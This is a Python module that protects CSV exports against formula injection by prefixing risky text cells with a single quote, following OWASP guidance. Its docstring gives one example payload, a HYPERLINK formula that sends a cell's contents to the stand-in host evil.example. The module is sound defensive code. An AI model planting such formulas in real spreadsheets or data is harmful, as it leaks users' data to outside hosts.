"""Writing CSV that is safe to open in a spreadsheet.

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula: a company name such as
``=HYPERLINK("http://evil.example/?"&A1, "Open")`` taken from a job posting or an email
would run when the export is opened. Following the OWASP guidance on CSV injection, such a
cell is written with a leading single quote, which spreadsheets show as plain text. Numbers
are not text and are written as they are (``-3`` stays a number). Every CSV afterview
writes goes through :func:`writer`.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, TextIO

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value``, with text that a spreadsheet would run as a formula made plain text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell passes through :func:`neutralise`."""

    def __init__(self, out: TextIO, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: TextIO, **options: Any) -> SafeWriter:
    return SafeWriter(out, **options)


__all__ = ["FORMULA_STARTS", "SafeWriter", "neutralise", "writer"]
